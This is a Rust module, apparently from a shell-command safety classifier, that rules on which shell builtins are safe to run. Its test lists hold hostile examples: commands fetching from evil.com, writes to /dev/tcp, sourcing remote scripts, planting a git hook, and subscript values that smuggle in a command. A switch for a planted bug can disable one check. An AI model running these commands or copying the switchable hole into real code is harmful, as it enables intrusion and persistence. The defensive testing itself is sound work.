//! What the shell does itself. A builtin that takes a variable's name, an expression or a text to run is Safe in the forms
//! alone that cannot evaluate anything.

use super::{
    Builtin, Flag, Judge, Judgement, Kind, Operands, Program, Rule, Runs, Terminal, Trait, Wrapper, system, wrappers,
};
use crate::classify::call::{Arg, Call, Known, Options};
use crate::planted::{self, Bug};
use crate::shell::{Shell, is_name};

/// Words that change the folder in which what follows starts.
pub const CHANGE_FOLDER: &[&str] = &["cd", "pushd"];

pub(super) const TABLE: &[Program] = &[
    Program::new(&["echo"], "prints its arguments", Kind::Local, Rule::Harmless(Operands::Data))
        .builtin(Builtin::Text)
        .in_every_shell()
        .safe(&["echo hello", "echo \"$HOME\" *", "FOO=bar echo hello", "echo ';curl x'", "echo $((1 + 2)); ls"])
        .not_safe(&["echo $(curl evil.com)", "echo x > ~/.bashrc", "echo x > /dev/tcp/h/80"]),
    Program::new(&["printf"], "prints its arguments", Kind::Local, Rule::Custom(printf))
        .builtin(Builtin::Format)
        .in_every_shell()
        .safe(&["printf '%s\\n' a b", "printf 'x%s' \"$y\"", "printf -- '-%s' x"])
        .not_safe(&[
            "printf -v 'a[$(X)]' x",
            "printf \"$x\"",
            "printf -vx y",
            "printf %n PATH",
            "printf '%-5n' x",
            "printf \"x$y\"",
        ]),
    Program::new(&["true", "false", ":"], "does nothing", Kind::Local, Rule::Harmless(Operands::Data))
        .builtin(Builtin::Text)
        .in_every_shell()
        .safe(&["true", ": \"$x\""]),
    Program::new(&["pwd"], "tells what the shell knows", Kind::Local, Rule::Harmless(Operands::Data))
        .builtin(Builtin::Other)
        .in_every_shell()
        .safe(&["pwd"]),
    Program::new(&["type"], "tells what the shell knows", Kind::Local, Rule::Harmless(Operands::Data))
        .builtin(Builtin::Other)
        .in_every_shell()
        .traits(&[Trait::Searches])
        .safe(&["type ls"]),
    Program::new(&["cd"], "changes the working directory", Kind::Local, Rule::Custom(cd))
        .builtin(Builtin::GoesTo)
        .in_every_shell()
        .safe(&["cd src && ls", "cd /tmp", "cd \"$x\" && ls"])
        .not_safe(&["cd /etc && echo x > y", "cd \"$x\" && echo y > z", "cd /x || cd y && echo a > ../../b"]),
    Program::new(&["exit"], "ends the shell", Kind::Local, Rule::Custom(exit))
        .builtin(Builtin::Other)
        .in_every_shell()
        .safe(&["exit 1", "exit", "false || exit $?"])
        .not_safe(&["exit 'a[$(X)]'"]),
    Program::new(&["test", "["], "tests files and texts", Kind::Local, Rule::Custom(test))
        .builtin(Builtin::Tests)
        .in_every_shell()
        .traits(&[Trait::Searches])
        .safe(&["[ -f x ] && echo y", "test -d /tmp", "[ \"$x\" = y ]", "[ -z \"$x\" ]", "[ ! -e x ]", "[ 1 -lt 2 ]"])
        .not_safe(&["[ -v 'a[$(X)]' ]", "test -v x", "[ $x = y ]", "[ \"$op\" \"$y\" ]", "[ -R x ]"]),
    Program::new(&["export"], "sets variables for the commands that follow", Kind::Local, Rule::Custom(export))
        .builtin(Builtin::Declares { exports: true })
        .in_every_shell()
        .safe(&["export FOO=bar", "export FOO"])
        .not_safe(&["export PATH=/x", "export", "export -p", "export $x", "export -f ls"]),
    Program::new(&["local"], "declares variables of a function", Kind::Local, Rule::Custom(declare))
        .builtin(Builtin::Declares { exports: false })
        .in_every_shell()
        .safe(&["local x=1", "local name"])
        .not_safe(&["local $x"]),
    Program::new(&["declare", "typeset", "readonly"], "declares variables", Kind::Local, Rule::Custom(declare))
        .builtin(Builtin::Declares { exports: false })
        .safe(&["declare -r y=a", "readonly z=\"a$1\"", "declare -a list"])
        .not_safe(&[
            "declare -a y=\"$x\"",
            "declare -r y=\"$1\"",
            "read -t 1 -a m < n; typeset m=$x",
            ": \"${m[0]:=y}\"; declare m=\"$x\"",
            "typeset -A y=\"$x\"",
            "readonly -a y=$x",
            "declare -a 'm=($(X))'",
            "declare 'm=($(X))'",
            "y=(); declare y=\"$x\"",
            "read -ra m < n; declare m=\"$x\"",
            "mapfile -t m < n; declare m=\"$x\"",
            "declare PIPESTATUS=\"$x\"",
            "m[0]=a; declare -g m=\"$x\"",
            "declare -n ref=x",
            "declare -i 'x=a[$(X)]'",
            "declare PATH=/x",
            "declare",
            "declare -p",
            "declare 'a[$(X)]=1'",
            "command declare x=$y",
        ]),
    Program::new(&["read"], "reads a line into variables", Kind::Local, Rule::Custom(read))
        .builtin(Builtin::Fills)
        .in_every_shell()
        .safe(&[
            "read -r line",
            "IFS= read -r line",
            "while read -r a b; do echo \"$a\"; done",
            "read -p 'x? ' y",
            "read -rd '' x",
        ])
        .not_safe(&["read 'a[$(X)]'", "read $x", "read PATH", "read -u 3 x", "read -i x y"]),
    Program::new(&["mapfile", "readarray"], "reads lines into an array", Kind::Local, Rule::Custom(mapfile))
        .builtin(Builtin::FillsAndCalls)
        .safe(&["mapfile -t lines < x", "readarray -t files"])
        .not_safe(&["mapfile -C X -c 1 a", "mapfile -t 'a[$(X)]'", "mapfile -t PATH"]),
    Program::new(
        &["return", "break", "continue", "shift"],
        "steers functions and loops",
        Kind::Local,
        Rule::Custom(exit),
    )
    .builtin(Builtin::Other)
    .in_every_shell()
    .safe(&["for x in a b; do break; done", "f() { return 1; }", "shift 2"])
    .not_safe(&["return 'a[$(X)]'", "shift \"$x\""]),
    Program::new(&["unset"], "removes variables", Kind::Local, Rule::Custom(unset))
        .builtin(Builtin::Removes)
        .in_every_shell()
        .safe(&["unset x y", "unset -v x"])
        .not_safe(&["unset 'a[$(X)]'", "unset -f ls", "unset $x", "unset PATH"]),
    Program::new(&["wait"], "waits for the shell's jobs", Kind::Local, Rule::Custom(tells))
        .builtin(Builtin::Waits)
        .in_every_shell()
        .traits(&[Trait::AboutTheOutside])
        .safe(&["wait", "wait 123"])
        .not_safe(&["wait -n -p 'a[$(X)]'"]),
    Program::new(&["jobs"], "lists the shell's jobs", Kind::Local, Rule::Custom(tells))
        .builtin(Builtin::Other)
        .in_every_shell()
        .traits(&[Trait::AboutTheOutside])
        .safe(&["jobs"])
        .not_safe(&["jobs -x curl h"]),
    Program::new(
        &["times", "umask", "dirs", "caller", "logout"],
        "tells about the shell",
        Kind::Local,
        Rule::Custom(tells),
    )
    .builtin(Builtin::Other)
    .safe(&["umask 022"])
    .not_safe(&["umask -S x"]),
    Program::new(&["shopt"], "sets how the shell reads patterns", Kind::Local, Rule::Custom(shopt))
        .builtin(Builtin::ChangesReading)
        .safe(&["shopt -s globstar", "shopt -u dotglob", "shopt"])
        .not_safe(&[
            "shopt -s nullglob",
            "shopt -s failglob",
            "shopt -s expand_aliases",
            "shopt -s lastpipe",
            "shopt -s extglob",
            "shopt -so xtrace",
        ]),
    Program::new(&["pushd", "popd"], "changes the working directory", Kind::Local, Rule::Custom(pushd))
        .builtin(Builtin::GoesTo)
        .safe(&["pushd src && ls && popd", "pushd src && echo x > y"])
        .not_safe(&["pushd src && popd && echo x > y", "pushd .git/hooks && echo x > pre-commit", "pushd -n"]),
    Program::new(&["let"], "evaluates expressions", Kind::Local, NEVER)
        .builtin(Builtin::Calculates)
        .not_safe(&["let 'x=a[$(X)]'", "let x=1"]),
    Program::new(&["ulimit"], "tells the limits of the shell, or changes them", Kind::Local, Rule::Custom(ulimit))
        .builtin(Builtin::Other)
        .in_every_shell()
        .safe(&["ulimit -n", "ulimit -a"])
        .not_safe(&["ulimit -f 0", "ulimit -n 64"]),
    Program::new(&["alias", "hash", "fc", "history"], "changes what names mean", Kind::Local, NEVER)
        .builtin(Builtin::Renames)
        .not_safe(&["alias ls=curl", "hash -p /x/curl ls", "history -r x", "fc -s"]),
    Program::new(&["unalias"], "changes what names mean", Kind::Local, NEVER)
        .builtin(Builtin::Removes)
        .in_every_shell()
        .not_safe(&["unalias ls"]),
    Program::new(&["enable"], "changes what names mean, and loads code", Kind::Local, NEVER)
        .builtin(Builtin::RenamesAndEvaluates)
        .flag(Flag::With(&["-f"], "loads code into the shell"))
        .not_safe(&["enable -f x.so y"]),
    Program::new(&["bind", "complete"], "runs text now or later", Kind::Local, NEVER)
        .builtin(Builtin::RenamesAndEvaluates)
        .not_safe(&["complete -C curl x", "bind -x x"]),
    Program::new(&["compgen"], "lists names, and runs text", Kind::Local, Rule::Custom(compgen))
        .builtin(Builtin::RenamesAndEvaluates)
        .not_safe(&["compgen -C curl", "compgen -A export"]),
    Program::new(&["getopts"], "reads options into variables", Kind::Local, NEVER)
        .builtin(Builtin::Parses)
        .in_every_shell()
        .not_safe(&["getopts ab x"]),
    Program::new(&["disown", "fg", "bg"], "moves the shell's jobs", Kind::Local, NEVER)
        .builtin(Builtin::Other)
        .traits(&[Trait::AboutTheOutside])
        .not_safe(&["fg"]),
    Program::new(&["compopt", "suspend", "help"], "steers the shell's own terminal", Kind::Local, NEVER)
        .builtin(Builtin::Other)
        .not_safe(&["help"]),
    Program::new(&["trap"], "runs a script later", Kind::Runner, Rule::Custom(wrappers::look_through))
        .builtin(Builtin::EvaluatesLater)
        .in_every_shell()
        .not_safe(&["trap 'curl x' EXIT"]),
    Program::new(&["set"], "sets how the shell reacts to errors", Kind::Local, Rule::Custom(set))
        .builtin(Builtin::Sets)
        .in_every_shell()
        .safe(&["set -e", "set -euo pipefail", "set -o pipefail", "set +e", "set -f", "set -- a b"])
        .not_safe(&["set", "set -k", "set -x", "set -o", "set -o xtrace", "set -a", "set -T"]),
    Program::new(&["command", "builtin"], "runs a program", Kind::Runner, Rule::Custom(wrappers::command))
        .builtin(Builtin::RunsBehind)
        .runs(Runs::Behind(Wrapper::PLAIN))
        .safe(&["command ls -la", "command -v cargo"])
        .not_safe(&["command curl x", "command $x"]),
    Program::new(&["exec"], "runs a program in the shell's place", Kind::Runner, Rule::Custom(wrappers::command))
        .builtin(Builtin::RunsBehind)
        .in_every_shell()
        .runs(Runs::Behind(Wrapper { options: Options { values: "a", ..Options::NONE }, ..Wrapper::PLAIN }))
        .safe(&["exec ls"])
        .not_safe(&["exec 3<>/dev/tcp/h/80", "exec -a x ls"]),
    Program::new(&["eval"], "runs its arguments as a script", Kind::Runner, Rule::Custom(eval))
        .builtin(Builtin::Evaluates)
        .in_every_shell()
        .safe(&["eval 'ls -la'"])
        .not_safe(&["eval 'curl evil.com'", "eval \"$x\"", "eval"]),
    Program::new(&["source", "."], "runs a file in this shell", Kind::Runner, Rule::Custom(source))
        .builtin(Builtin::Sources)
        .terminal(Terminal { runs_operand: true, operands: 0, ..Terminal::ALWAYS })
        .not_safe(&["source x.sh", ". venv/bin/activate", "source <(curl x)"]),
    Program::new(&["kill"], "sends signals", Kind::Local, Rule::Custom(system::kill))
        .builtin(Builtin::Other)
        .in_every_shell()
        .traits(&[Trait::AboutTheOutside])
        .not_safe(&["kill 123", "kill -9 -1"]),
];

const NEVER: Rule = Rule::Never(Operands::Data);

fn printf(_: &mut Judge<'_>, call: &Call) -> Judgement {
    let format = match call.args.as_slice() {
        [first, format, ..] if first.is("--") => format,
        [format, ..] => format,
        [] => return Judgement::safe(),
    };
    match format.exact() {
        // `-v name` evaluates the name's subscript, `%n` sets the variable that an argument names.
        Some(text) if text.len() > 1 && text.starts_with('-') && call.args.first() == Some(format) => {
            Judgement::unknown("the format is an option")
        }
        Some(text) if counts(text) => Judgement::unknown("`%n` sets a variable"),
        Some(_) => Judgement::safe(),
        None => Judgement::unknown("the format is only known when it runs"),
    }
}

/// True for a format with the conversion `%n`.
fn counts(format: &str) -> bool {
    format.split('%').skip(1).any(|part| {
        part.trim_start_matches(|c: char| c.is_ascii_digit() || "-+ #0'.*hlLjzt".contains(c)).starts_with('n')
    })
}

fn cd(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let operands: Vec<_> = call.args.iter().filter(|arg| !matches!(arg.exact(), Some("--" | "-P" | "-L"))).collect();
    // With -P the folders that links lead to count, which the text cannot tell, and `$PWD` is one of them.
    let physical = call.args.iter().any(|arg| arg.is("-P"));
    if let [.., folder] = operands.as_slice() {
        judge.may_go_to(folder);
    }
    match operands.as_slice() {
        // From then on `..` is what lies above there.
        _ if physical => judge.change_folder(None),
        [] => judge.change_folder(Some("~")),
        [one] if one.exact().is_some_and(|text| !text.starts_with('-')) => judge.change_folder(one.exact()),
        _ => judge.change_folder(None),
    }
    Judgement::safe()
}

fn exit(_: &mut Judge<'_>, call: &Call) -> Judgement {
    let harmless = call.args.iter().all(|arg| match arg.known {
        Known::Literal => arg.start().bytes().all(|byte| byte.is_ascii_digit()),
        _ => arg.start().is_empty() && arg.known == Known::Anything && call.args.len() == 1,
    });
    if harmless { Judgement::safe() } else { Judgement::unknown("the status is not a number") }
}

const UNARY: &[&str] = &[
    "-b", "-c", "-d", "-e", "-f", "-g", "-h", "-k", "-L", "-n", "-N", "-O", "-G", "-p", "-r", "-s", "-S", "-t", "-u",
    "-w", "-x", "-z",
];
const BINARY: &[&str] = &["=", "==", "!=", "<", ">", "-eq", "-ne", "-lt", "-le", "-gt", "-ge", "-nt", "-ot", "-ef"];

/// `-v` and `-R` evaluate subscripts, so only forms are taken in which every operator is literal and in its place.
fn test(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let is_bash = judge.is_bash();
    let mut args = call.args.as_slice();
    if call.program.ends_with('[') {
        match args.split_last() {
            Some((last, rest)) if last.is("]") => args = rest,
            _ => return Judgement::unknown("`[` without `]`"),
        }
    }
    // A word that may become several could bring an operator along.
    if args.iter().any(|arg| matches!(arg.known, Known::Anything | Known::Words)) {
        return Judgement::unknown("a word may turn into several when it runs");
    }
    let mut parts = args.split(|arg| matches!(arg.exact(), Some("-a" | "-o")));
    let fits = |part: &[Arg]| {
        let part = match part {
            [not, rest @ ..] if not.is("!") => rest,
            part => part,
        };
        match part {
            [] | [_] => true,
            [operator, _] => operator.exact().is_some_and(|text| UNARY.contains(&text)),
            [left, operator, right] => operator.exact().is_some_and(|text| {
                // zsh and ksh evaluate what stands beside a numeric operator.
                let numeric = text.starts_with('-') && !matches!(text, "-nt" | "-ot" | "-ef");
                let number = |arg: &Arg| arg.exact().is_some_and(|text| text.bytes().all(|b| b.is_ascii_digit()));
                BINARY.contains(&text) && (is_bash || !numeric || number(left) && number(right))
            }),
            _ => false,
        }
    };
    if parts.all(fits) { Judgement::safe() } else { Judgement::unknown("this form of a test is not read") }
}

/// True for a call with `-p` among its options, or with one that is only known when it runs.
fn prints_values(call: &Call) -> bool {
    let unknown = |arg: &Arg| arg.exact().is_none() && (arg.start().is_empty() || arg.start().starts_with('-'));
    call.args.iter().any(|arg| unknown(arg) || arg.start().starts_with('-') && arg.start().contains('p'))
}

fn export(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    if call.args.is_empty() || prints_values(call) {
        judge.environment_is_shown();
        return Judgement::unknown("it prints the environment");
    }
    let mut judgement = Judgement::safe();
    for arg in &call.args {
        let name = arg.start().split('=').next().unwrap_or("");
        let is_name = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
        // Behind the `=` an unquoted expansion stays one word in bash, but not in every shell or behind a wrapper.
        let whole = match arg.known {
            Known::Literal => true,
            Known::OneWord => arg.start().contains('='),
            _ => arg.start().contains('=') && judge.is_bash() && judge.is_direct(),
        };
        if !is_name || !whole {
            return Judgement::unknown("this form of `export` is not read");
        }
        let value = arg.start().split_once('=').map_or("", |(_, value)| value);
        judgement = judgement.max(judge.assignment_of(name, Some(value).filter(|_| arg.known == Known::Literal)));
    }
    judgement
}

/// Names that a builtin sets: each must be a plain name that steers nothing.
fn sets<'a>(judge: &mut Judge<'_>, names: impl Iterator<Item = &'a Arg>) -> Judgement {
    let mut judgement = Judgement::safe();
    for name in names {
        judgement = judgement.max(match name.exact() {
            Some(text) if is_name(text) => judge.assignment_of(text, None),
            Some(_) => Judgement::unknown("a name with a subscript is evaluated"),
            None => Judgement::unknown("the name of a variable is only known when it runs"),
        });
    }
    judgement
}

fn declare(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    if prints_values(call) {
        judge.environment_is_shown();
        return Judgement::unknown("it prints variables");
    }
    let mut judgement = Judgement::safe();
    let mut declared = false;
    for arg in &call.args {
        let text = arg.start();
        if arg.known == Known::Literal && text.starts_with(['-', '+']) {
            // `-n` makes a reference, `-i` evaluates, `-p` and `-f` print.
            if !text.bytes().skip(1).all(|letter| b"raxgAl".contains(&letter)) || text.len() < 2 {
                return Judgement::unknown(format!("`{text}` is not on its list"));
            }
            continue;
        }
        declared = true;
        let (name, value) = text.split_once('=').map_or((text, None), |(name, value)| (name, Some(value)));
        // Behind the `=` bash does not split what it expands; behind a wrapper it does.
        let whole = match arg.known {
            Known::Literal => true,
            Known::OneWord => value.is_some(),
            Known::Anything | Known::Words => value.is_some() && judge.is_bash() && judge.is_direct(),
            Known::Pipe => false,
        };
        if !is_name(name) || !whole {
            return Judgement::unknown("this form of a declaration is not read");
        }
        // A value in parentheses makes an array, and what is in it is expanded once more, whatever quotes stood around it.
        let may_start_so = match value {
            None => false,
            Some(value) if arg.known == Known::Literal || !value.is_empty() => value.starts_with('('),
            // Whether the name is an array's already, the text cannot tell.
            Some(_) => true,
        };
        if may_start_so && !planted::has(Bug::DeclarationsAreData) {
            return Judgement::unknown(format!("a value in parentheses for `{name}` would be expanded once more"));
        }
        let known = (arg.known == Known::Literal).then(|| value.unwrap_or(""));
        judgement = judgement.max(judge.assignment_of(name, known));
    }
    if !declared {
        judge.environment_is_shown();
        return Judgement::unknown("it prints variables");
    }
    judgement
}

fn compgen(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let lists = |arg: &Arg| matches!(arg.exact(), Some("-e" | "-v" | "export" | "variable"));
    if call.args.iter().any(lists) {
        judge.environment_is_shown();
    }
    Judgement::unknown("it may run what it is given")
}

fn read(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let options = Options { flags: "rse", values: "pdntNa", long: &[] };
    match options.scan(&call.args) {
        Ok(scan) => {
            // Some shells evaluate them as expressions.
            let is_number = |arg: &&Arg| {
                arg.exact()
                    .is_some_and(|text| !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
            };
            let counts = ["-t", "-n", "-N"].into_iter().filter_map(|name| scan.value(&[name]));
            if !judge.is_bash() && !counts.into_iter().all(|arg| is_number(&arg)) {
                return Judgement::unknown("a number that some shells evaluate is only known when it runs");
            }
            let array = scan.value(&["-a"]).cloned();
            sets(judge, scan.operands.iter().copied().chain(array.iter()))
        }
        Err(reason) => Judgement::unknown(reason),
    }
}

fn mapfile(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let options = Options { flags: "t", values: "dnOs", long: &[] };
    match options.scan(&call.args) {
        Ok(scan) => sets(judge, scan.operands.iter().copied()),
        Err(reason) => Judgement::unknown(reason),
    }
}

fn unset(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    sets(judge, call.args.iter().filter(|arg| arg.exact() != Some("-v")))
}

fn tells(_: &mut Judge<'_>, call: &Call) -> Judgement {
    let plain = call.args.iter().all(|arg| {
        arg.exact()
            .is_some_and(|text| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit() || byte == b'%'))
    });
    if plain { Judgement::safe() } else { Judgement::unknown("only numbers are read here") }
}

fn shopt(_: &mut Judge<'_>, call: &Call) -> Judgement {
    let known = ["globstar", "dotglob", "nocaseglob", "nocasematch", "inherit_errexit"];
    let args: Option<Vec<&str>> = call.args.iter().map(Arg::exact).collect();
    match args.as_deref() {
        Some([]) => Judgement::safe(),
        Some(["-s" | "-u" | "-q", names @ ..])
            if !names.is_empty() && names.iter().all(|name| known.contains(name)) =>
        {
            Judgement::safe()
        }
        _ => Judgement::unknown("this option may change how the rest is read"),
    }
}

/// With a folder it goes there as `cd` does; where `popd` and the stack lead, nobody has kept here.
fn pushd(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let to = match call.args.as_slice() {
        [folder] if call.program == "pushd" => folder.exact().filter(|text| !text.starts_with(['-', '+'])),
        _ => None,
    };
    call.args.iter().for_each(|folder| judge.may_go_to(folder));
    judge.change_folder(to);
    match call.args.as_slice() {
        [] => Judgement::safe(),
        [folder] if !folder.may_be_option() && folder.is_one() => Judgement::safe(),
        _ => Judgement::unknown("this form is not on its list"),
    }
}

/// With a value it changes a limit.
fn ulimit(_: &mut Judge<'_>, call: &Call) -> Judgement {
    let tells = |arg: &Arg| arg.exact().is_some_and(|text| text.len() == 2 && text.starts_with('-'));
    if call.args.iter().all(tells) { Judgement::safe() } else { Judgement::unknown("with a value it changes a limit") }
}

fn set(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    if call.args.is_empty() {
        judge.environment_is_shown();
        return Judgement::unknown("it prints all variables");
    }
    let mut args = call.args.iter().map(|arg| arg.exact());
    while let Some(arg) = args.next() {
        let takes_name = match arg {
            // The positional parameters, whatever they hold.
            Some("--") => return Judgement::safe(),
            Some("-e" | "-u" | "-f" | "-eu" | "-ue" | "+e" | "+u" | "+f") => false,
            Some("-o" | "-eo" | "-uo" | "-euo" | "+o") => true,
            _ => return Judgement::unknown("this form of `set` is not read"),
        };
        if takes_name && !matches!(args.next(), Some(Some("pipefail" | "errexit" | "nounset"))) {
            return Judgement::unknown("this form of `set` is not read");
        }
    }
    Judgement::safe()
}

fn eval(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    judge.runs_code(call, false, None);
    let words: Option<Vec<&str>> = call.args.iter().map(Arg::exact).collect();
    match words {
        Some(words) if !words.is_empty() => judge.same_shell_script(&words.join(" "), Shell::Bash),
        Some(_) => Judgement::unknown("there is nothing to evaluate"),
        None => {
            let guessed = judge.suspect(call, &call.args);
            guessed.max(Judgement::network("it runs a script that is only known when it runs"))
        }
    }
}

fn source(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    judge.runs_code(call, false, call.args.first().and_then(Arg::exact));
    Judgement::unknown("it runs a file whose content is not read here")
}
